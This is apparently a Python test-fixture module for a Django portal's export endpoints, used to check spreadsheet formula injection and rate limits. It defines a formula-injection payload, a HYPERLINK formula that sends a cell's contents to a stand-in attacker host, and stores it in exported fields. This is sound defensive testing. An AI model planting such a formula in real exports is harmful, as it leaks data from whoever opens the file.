"""Every export endpoint of the portal, set up: one function per export, which stores EVIL in a
text field the export writes, logs in a user who may export, and returns the response. Used by
the formula test (test_exports.py) and the rate-limit test (test_ratelimits.py)."""

from datetime import UTC, date, datetime

from django.urls import reverse

from exchange.factories import mapping
from incentives.models import Policy
from patents.factories import PatentFactory
from patents.models import Patent
from portal import services as portal_services
from portal.factories import ApplicantFactory, CityAgencyFactory, OrganisationFactory, UserFactory
from portal.models import Organisation, Region, Role
from projects import factories as pf
from projects.models import Call
from reporting import services as reporting_services
from reporting.models import DataElement, ExportJob, Indicator, ReturnForm

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'


def _audit_csv(client, django_capture_on_commit_callbacks):
    portal_services.audit_record(actor=None, actor_label=EVIL, event="test.event", reason=EVIL)
    client.force_login(UserFactory(role=Role.AUDIT_ADMIN))
    return client.get(reverse("portal:audit_list"), {"format": "csv"})


def _ranking(client, django_capture_on_commit_callbacks):
    reviewer = pf.reviewer()
    call = pf.open_call(reviewer, categories=(3,))
    Call.objects.filter(pk=call.pk).update(title=EVIL)  # the sheet's footer names the call
    pf.scored(call, [80, 80, 80], actor=reviewer, title=EVIL)
    client.force_login(reviewer)
    return client.get(reverse("projects:ranking_export", args=[pf.lot(call, 3).pk]))


def _university():
    return ApplicantFactory(
        organisation=OrganisationFactory(
            kind=Organisation.Kind.UNIVERSITY, region=Region.objects.get(code="610100")
        )
    )


def _patent(owner, **fields) -> Patent:
    values = {
        "title": EVIL, "filed_on": date(2021, 3, 1), "granted_on": date(2023, 6, 2),
        "ipc": "C23C24/10", "screened_at": datetime(2025, 3, 10, 2, 0, tzinfo=UTC), "tier": "A",
        "industry": "04", "screen_note": EVIL,
    }  # fmt: skip
    return PatentFactory(owner=owner, serial=7, **(values | fields))


def _patent_pool(client, django_capture_on_commit_callbacks):
    university = _university()
    _patent(university.organisation)
    client.force_login(university)
    return client.get(reverse("patents:export"))


def _spending(client, django_capture_on_commit_callbacks):
    Policy.objects.filter(code="first-set").update(title=EVIL)
    client.force_login(UserFactory(role=Role.REVIEWER))
    return client.get(reverse("incentives:spending_export"), {"year": "2025"})


def _stat_return():
    DataElement.objects.filter(code="TRAININGS").update(name=EVIL)
    agency = CityAgencyFactory()
    stat_return = reporting_services.return_open(
        actor=agency, form=ReturnForm.objects.get(code="QUARTERLY"),
        region=Region.objects.get(code="610900"), period="2025Q2",
    )  # fmt: skip
    return agency, stat_return


def _return_template(client, django_capture_on_commit_callbacks):
    agency, stat_return = _stat_return()
    client.force_login(agency)
    return client.get(reverse("reporting:return_template", args=[stat_return.pk]))


def _return_export(client, django_capture_on_commit_callbacks):
    agency, stat_return = _stat_return()
    client.force_login(agency)
    return client.get(reverse("reporting:return_export", args=[stat_return.pk]))


def _dashboard(client, django_capture_on_commit_callbacks):
    Indicator.objects.update(name=EVIL)
    client.force_login(UserFactory(role=Role.REVIEWER))
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("reporting:dashboard_export", args=["610000"]), {"period": ""})
    job = ExportJob.objects.get()
    assert job.status == ExportJob.Status.DONE, job.status
    return client.get(reverse("reporting:export_download", args=[job.pk]))


def _exchange(fmt):
    def export(client, django_capture_on_commit_callbacks):
        _patent(_university().organisation)
        registration = mapping("stock-patent-registration")
        client.force_login(UserFactory(role=Role.REVIEWER))
        return client.get(reverse("exchange:export", args=[registration.pk]), {"fmt": fmt})

    return export


EXPORTS = [
    ("audit-log-csv", _audit_csv),
    ("projects-ranking-xlsx", _ranking),
    ("patents-pool-xlsx", _patent_pool),
    ("incentives-spending-xlsx", _spending),
    ("reporting-return-template-xlsx", _return_template),
    ("reporting-return-export-xlsx", _return_export),
    ("reporting-dashboard-xlsx", _dashboard),
    ("exchange-export-xlsx", _exchange("xlsx")),
    ("exchange-export-csv", _exchange("csv")),
]
